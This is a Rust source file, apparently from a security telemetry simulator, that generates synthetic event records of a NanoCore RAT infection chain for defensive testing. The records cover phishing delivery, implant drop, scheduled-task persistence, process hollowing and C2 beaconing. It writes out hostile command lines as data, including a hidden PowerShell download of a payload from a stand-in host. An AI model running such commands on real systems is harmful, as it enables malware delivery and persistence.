@@ -1,0 +1,470 @@
+//! `nanocore-infection`: delivery, the implant's drop and start, scheduled-task
+//! persistence, the payload hollowed into a signed .NET utility, `run.dat`, and
+//! C2 lookups paced by the client's connect / restart delays, keep-alives and the
+//! resolver cache; reboots restart the implant through its task.
+
+use std::sync::Arc;
+
+use super::Plan;
+use crate::scenario::{Delivery, Drop, Hollow, InfectionParams, Launch};
+use crate::shapes::{answer, basename, dirname, Answer, Host, Meta, Proc, Spec};
+use crate::stream::Activity;
+use crate::Record;
+
+const OUTLOOK: &str = r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE";
+const WINWORD: &str = r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE";
+const WSCRIPT: &str = r"C:\Windows\System32\wscript.exe";
+const POWERSHELL: &str = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
+const MSIEXEC: &str = r"C:\Windows\System32\msiexec.exe";
+const SCHTASKS: &str = r"C:\Windows\System32\schtasks.exe";
+const RUNDLL32: &str = r"C:\Windows\System32\rundll32.exe";
+/// The .NET 2.0 framework folder NanoCore hollows into.
+pub const NET2: &str = r"C:\Windows\Microsoft.NET\Framework\v2.0.50727";
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Next {
+    Install,
+    Connect,
+    Relaunch,
+}
+
+pub struct Infection {
+    host: Host,
+    p: InfectionParams,
+    end: i64,
+    explorer: Arc<Proc>,
+    scheduler: Arc<Proc>,
+    /// `{GUID}` folder name of this host's install.
+    guid_dir: String,
+    implant_path: String,
+    next: i64,
+    what: Next,
+    c2: Option<Arc<Proc>>,
+    host_index: usize,
+    /// Per C2 name: (cache expiry, cached answer was NXDOMAIN).
+    cache: Vec<(i64, bool)>,
+    next_reboot: Option<i64>,
+    jitter: f64,
+    scenario_id: String,
+}
+
+impl Infection {
+    pub fn new(plan: &Plan, mut host: Host, p: InfectionParams) -> Infection {
+        let explorer = host.explorer(plan.start);
+        let scheduler = host.scheduler(plan.start);
+        let window = (plan.end - plan.start).max(1) as f64;
+        let within = (p.infect_within_minutes * 60_000.0).min(window * 0.5);
+        let next = plan.start + (host.rng.unit() * within) as i64;
+        let guid_dir = format!(
+            "{{{}-{}-{}-{}-{}}}",
+            host.rng.hex_upper(8),
+            host.rng.hex_upper(4),
+            host.rng.hex_upper(4),
+            host.rng.hex_upper(4),
+            host.rng.hex_upper(12)
+        );
+        let implant_path = p
+            .implant_path
+            .replace("%LOCALAPPDATA%", &host.local_appdata())
+            .replace("%APPDATA%", &host.appdata())
+            .replace("%TEMP%", &host.temp())
+            .replace("%USERPROFILE%", &host.profile())
+            .replace("%USERNAME%", &host.user)
+            .replace("%PROGRAMDATA%", r"C:\ProgramData")
+            .replace("%GUID%", &guid_dir);
+        let cache = vec![(i64::MIN, false); p.c2_hosts.len()];
+        Infection {
+            end: plan.end,
+            explorer,
+            scheduler,
+            guid_dir,
+            implant_path,
+            next,
+            what: Next::Install,
+            c2: None,
+            host_index: 0,
+            cache,
+            next_reboot: None,
+            jitter: plan.scenario.generator.jitter,
+            scenario_id: plan.scenario.id.clone(),
+            host,
+            p,
+        }
+    }
+
+    fn gap(&mut self) -> i64 {
+        self.host.rng.range(200, 3_000)
+    }
+
+    fn secs(&mut self, s: f64) -> i64 {
+        if s <= 0.0 {
+            0
+        } else {
+            self.host.rng.jitter_ms(s * 1000.0, self.jitter)
+        }
+    }
+
+    fn implant_meta(&self) -> Meta {
+        let name = basename(&self.implant_path);
+        if self.p.company.is_empty() {
+            Meta::default()
+        } else {
+            let stem = name.rsplit_once('.').map_or(name, |(s, _)| s);
+            Meta::new(&self.p.company, stem, stem, name, "1.0.0.0")
+        }
+    }
+
+    fn is_dll(&self) -> bool {
+        self.implant_path.to_ascii_lowercase().ends_with(".dll")
+    }
+
+    /// The implant's process spec (a `.dll` runs under rundll32).
+    fn implant_spec(&self) -> Spec {
+        let args = self.p.implant_args.trim();
+        let sep = if args.is_empty() { "" } else { " " };
+        if self.is_dll() {
+            Spec::new(
+                RUNDLL32,
+                &format!(r#"{RUNDLL32} "{}",Start{sep}{args}"#, self.implant_path),
+            )
+        } else {
+            Spec::new(
+                &self.implant_path,
+                &format!(r#""{}"{sep}{args}"#, self.implant_path),
+            )
+            .meta(self.implant_meta())
+            .hash_key(format!(
+                "implant:{}:{}",
+                self.scenario_id,
+                basename(&self.implant_path)
+            ))
+            .cwd(&format!(r"{}\", dirname(&self.implant_path)))
+        }
+    }
+
+    fn task_xml(&mut self, t: i64, writer: &Proc, out: &mut Vec<Record>) -> String {
+        let xml = format!(
+            r"{}\tmp{}.tmp",
+            self.host.temp(),
+            self.host.rng.hex_upper(4)
+        );
+        self.host.file(t, writer, &xml, "persistence-xml", out);
+        xml
+    }
+
+    fn install(&mut self, mut t: i64, out: &mut Vec<Record>) {
+        let explorer = Arc::clone(&self.explorer);
+        // 1. Delivery: the dropper process.
+        let dropper = match self.p.delivery {
+            Delivery::Vbs | Delivery::Invoice => {
+                let outlook = self.host.spawn(
+                    t,
+                    &explorer,
+                    Spec::new(OUTLOOK, &format!(r#""{OUTLOOK}" /recycle"#)),
+                    "mail-client",
+                    out,
+                );
+                t += self.gap() * 10;
+                if self.p.delivery == Delivery::Vbs {
+                    const NAMES: [&str; 4] = [
+                        "Rechnung_0521.vbs",
+                        "Invoice_88231.vbs",
+                        "Payment_Advice.vbs",
+                        "PO-4471.vbs",
+                    ];
+                    let vbs = format!(
+                        r"{}\{}",
+                        self.host.temp(),
+                        self.host.rng.pick(&NAMES).unwrap_or(&NAMES[0])
+                    );
+                    self.host.file(t, &outlook, &vbs, "attachment", out);
+                    t += self.gap() * 5;
+                    self.host.spawn(
+                        t,
+                        &outlook,
+                        Spec::new(WSCRIPT, &format!(r#""{WSCRIPT}" "{vbs}""#)),
+                        "dropper",
+                        out,
+                    )
+                } else {
+                    let exe = format!(
+                        r"{}\Microsoft\Windows\INetCache\Content.Outlook\{}\Invoice_{}.exe",
+                        self.host.local_appdata(),
+                        self.host.rng.hex_upper(8),
+                        self.host.rng.range(10_000, 99_999)
+                    );
+                    self.host.file(t, &outlook, &exe, "attachment", out);
+                    t += self.gap() * 5;
+                    let key = format!("dropper:{}", self.scenario_id);
+                    self.host.spawn(
+                        t,
+                        &outlook,
+                        Spec::new(&exe, &format!(r#""{exe}""#)).hash_key(key),
+                        "dropper",
+                        out,
+                    )
+                }
+            }
+            Delivery::Powershell => {
+                let doc = format!(
+                    r"{}\Downloads\Remittance_{}.docm",
+                    self.host.profile(),
+                    self.host.rng.range(1000, 9999)
+                );
+                let word = self.host.spawn(
+                    t,
+                    &explorer,
+                    Spec::new(WINWORD, &format!(r#""{WINWORD}" /n "{doc}" /o """#)),
+                    "macro-document",
+                    out,
+                );
+                t += self.gap() * 5;
+                let stage = "cdn.filedrop-share.net";
+                let blob = self.host.rng.hex(10);
+                let ps = self.host.spawn(
+                    t,
+                    &word,
+                    Spec::new(
+                        POWERSHELL,
+                        &format!(
+                            r#"powershell.exe -NoP -W Hidden -Exec Bypass -C "iwr -UseBasicParsing https://{stage}/d/{blob}.bin -OutFile '{}'""#,
+                            self.implant_path
+                        ),
+                    ),
+                    "dropper",
+                    out,
+                );
+                t += self.gap();
+                self.host.lookup(
+                    t,
+                    Some(&ps),
+                    stage,
+                    "A",
+                    &answer(stage, "A", false),
+                    true,
+                    "stage-download",
+                    out,
+                );
+                ps
+            }
+            Delivery::Msi => {
+                const NAMES: [&str; 3] = [
+                    "AdobeReaderUpdate.msi",
+                    "Invoice-Viewer.msi",
+                    "ZoomInstallerFull.msi",
+                ];
+                let msi = format!(
+                    r"{}\Downloads\{}",
+                    self.host.profile(),
+                    self.host.rng.pick(&NAMES).unwrap_or(&NAMES[0])
+                );
+                self.host.spawn(
+                    t,
+                    &explorer,
+                    Spec::new(MSIEXEC, &format!(r#""{MSIEXEC}" /i "{msi}" /qn"#)),
+                    "dropper",
+                    out,
+                )
+            }
+        };
+        // 2. The implant file.
+        t += self.gap();
+        let implant_path = self.implant_path.clone();
+        match self.p.drop {
+            Drop::Write => self
+                .host
+                .file(t, &dropper, &implant_path, "drop-implant", out),
+            Drop::Rename => {
+                let tmp = format!(
+                    r"{}\~DF{}.tmp",
+                    dirname(&implant_path),
+                    self.host.rng.hex_upper(4)
+                );
+                self.host.file(t, &dropper, &tmp, "drop-implant", out);
+                t += self.gap() / 4 + 1;
+                self.host
+                    .rename(t, &dropper, &tmp, &implant_path, "drop-implant", out);
+            }
+        }
+        // 3. Start it (and install the task).
+        t += self.gap();
+        let task = self.p.task_name.clone();
+        let implant = match self.p.launch {
+            Launch::Direct => {
+                let implant = self
+                    .host
+                    .spawn(t, &dropper, self.implant_spec(), "implant", out);
+                if self.p.persistence {
+                    t += self.gap();
+                    let xml = self.task_xml(t, &implant, out);
+                    t += self.gap();
+                    self.host.spawn(
+                        t,
+                        &implant,
+                        Spec::new(
+                            SCHTASKS,
+                            &format!(r#""{SCHTASKS}" /create /f /tn "{task}" /xml "{xml}""#),
+                        ),
+                        "persistence",
+                        out,
+                    );
+                }
+                implant
+            }
+            Launch::SchtasksRun => {
+                let xml = self.task_xml(t, &dropper, out);
+                t += self.gap();
+                self.host.spawn(
+                    t,
+                    &dropper,
+                    Spec::new(
+                        SCHTASKS,
+                        &format!(r#""{SCHTASKS}" /create /f /tn "{task}" /xml "{xml}""#),
+                    ),
+                    "persistence",
+                    out,
+                );
+                t += self.gap();
+                let run = self.host.spawn(
+                    t,
+                    &dropper,
+                    Spec::new(SCHTASKS, &format!(r#""{SCHTASKS}" /run /tn "{task}""#)),
+                    "task-run",
+                    out,
+                );
+                t += self.gap();
+                self.host
+                    .spawn(t, &run, self.implant_spec(), "implant", out)
+            }
+        };
+        self.payload(t, &implant, true, out);
+    }
+
+    /// Hollow (if configured), write `run.dat` (on install) and schedule the first
+    /// connection.
+    fn payload(&mut self, mut t: i64, implant: &Arc<Proc>, first: bool, out: &mut Vec<Record>) {
+        let c2 = match self.p.hollow {
+            Hollow::None => Arc::clone(implant),
+            Hollow::RegAsm | Hollow::RegSvcs => {
+                let exe = if self.p.hollow == Hollow::RegAsm {
+                    "RegAsm.exe"
+                } else {
+                    "RegSvcs.exe"
+                };
+                let image = format!(r"{NET2}\{exe}");
+                t += self.gap();
+                self.host.spawn(
+                    t,
+                    implant,
+                    Spec::new(&image, &format!(r#""{image}""#)),
+                    "hollow",
+                    out,
+                )
+            }
+        };
+        if first {
+            t += self.gap();
+            let run_dat = format!(r"{}\{}\run.dat", self.host.appdata(), self.guid_dir);
+            self.host.file(t, &c2, &run_dat, "run-dat", out);
+        }
+        self.c2 = Some(c2);
+        self.host_index = 0;
+        for c in &mut self.cache {
+            *c = (i64::MIN, false);
+        }
+        let first_connect = t + self.secs(self.p.connect_delay_seconds) + 1;
+        self.schedule(first_connect);
+    }
+
+    /// Set the next episode: a connection at `at`, unless a reboot comes first.
+    fn schedule(&mut self, at: i64) {
+        match self.next_reboot {
+            Some(r) if r <= at => {
+                self.next = r + self.host.rng.range(60_000, 180_000);
+                self.what = Next::Relaunch;
+            }
+            _ => {
+                self.next = at;
+                self.what = Next::Connect;
+            }
+        }
+    }
+
+    fn connect(&mut self, t: i64, out: &mut Vec<Record>) {
+        let n = self.p.c2_hosts.len().max(1);
+        let i = self.host_index % n;
+        let name = self.p.c2_hosts[i].clone();
+        let (expiry, cached_nx) = self.cache[i];
+        let nxdomain = if t < expiry {
+            cached_nx
+        } else {
+            let nx = self.host.rng.chance(self.p.nxdomain_share);
+            let ans: Answer = answer(&name, "A", nx);
+            let c2 = self.c2.clone();
+            self.host
+                .lookup(t, c2.as_deref(), &name, "A", &ans, true, "c2-lookup", out);
+            self.cache[i] = (t + (self.p.ttl_seconds * 1000.0) as i64, nx);
+            nx
+        };
+        let reconnect =
+            self.secs(self.p.restart_delay_seconds) + self.secs(self.p.connect_delay_seconds) + 1;
+        let next = if !nxdomain && self.host.rng.chance(self.p.c2_up) {
+            // Connected: keep-alives until the session drops.
+            let mean = self.p.session_minutes * 60.0 / self.p.keepalive_seconds;
+            let beats = 1.0 + self.host.rng.exp(mean).floor();
+            let session = (beats * self.p.keepalive_seconds * 1000.0).min(9.0e15) as i64;
+            t + session + reconnect
+        } else {
+            // Refused or timed out: try the next host.
+            self.host_index = (i + 1) % n;
+            t + self.host.rng.range(300, 21_000) + reconnect
+        };
+        self.schedule(next);
+    }
+
+    fn relaunch(&mut self, t: i64, out: &mut Vec<Record>) {
+        // The task starts the implant after boot; the resolver cache is empty.
+        let sched = Arc::clone(&self.scheduler);
+        let task = self.p.task_name.clone();
+        let implant = self
+            .host
+            .spawn(t, &sched, self.implant_spec().task(&task), "relaunch", out);
+        if let Some(every) = self.p.reboot_every_hours {
+            let r = self.next_reboot.unwrap_or(t);
+            self.next_reboot = Some(
+                r + self
+                    .host
+                    .rng
+                    .jitter_ms(every * 3_600_000.0, self.jitter)
+                    .max(600_000),
+            );
+        }
+        self.payload(t, &implant, false, out);
+    }
+}
+
+impl Activity for Infection {
+    fn next_start(&self) -> Option<i64> {
+        (self.next < self.end).then_some(self.next)
+    }
+
+    fn emit(&mut self, out: &mut Vec<Record>) {
+        let t = self.next;
+        match self.what {
+            Next::Install => {
+                if let Some(every) = self.p.reboot_every_hours {
+                    self.next_reboot = Some(
+                        t + self
+                            .host
+                            .rng
+                            .jitter_ms(every * 3_600_000.0, self.jitter)
+                            .max(600_000),
+                    );
+                }
+                self.install(t, out);
+            }
+            Next::Connect => self.connect(t, out),
+            Next::Relaunch => self.relaunch(t, out),
+        }
+    }
+}
